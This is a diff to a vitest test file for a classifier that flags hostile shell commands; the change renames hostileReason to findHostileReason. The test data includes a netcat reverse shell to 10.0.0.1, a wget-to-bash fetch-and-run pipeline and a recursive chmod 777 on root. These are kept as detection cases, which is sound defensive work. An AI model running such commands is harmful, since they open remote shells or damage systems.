@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest'
-import { hostileReason } from './local-classifier.js'
+import { findHostileReason } from './local-classifier.js'
 
 test('commands that no request can justify are hostile', () => {
   const commands = [
@@ -16,9 +16,9 @@ test('commands that no request can justify are hostile', () => {
     'chmod -R 777 /',
     'nc -e /bin/sh 10.0.0.1 4444',
   ]
-  expect(commands.filter((command) => hostileReason([command.split(' ')]) === undefined)).toEqual([])
+  expect(commands.filter((command) => findHostileReason([command.split(' ')]) === undefined)).toEqual([])
   expect(
-    hostileReason([
+    findHostileReason([
       ['wget', '-qO-', 'x'],
       ['bash', '-s'],
     ]),
@@ -38,6 +38,6 @@ test('commands that could be legitimate are not hostile', () => {
     'nc -z host 80',
     'bash script.sh',
   ]
-  expect(commands.filter((command) => hostileReason([command.split(' ')]) !== undefined)).toEqual([])
-  expect(hostileReason([['rm', '-rf', '/ in a name']])).toBeUndefined()
+  expect(commands.filter((command) => findHostileReason([command.split(' ')]) !== undefined)).toEqual([])
+  expect(findHostileReason([['rm', '-rf', '/ in a name']])).toBeUndefined()
 })
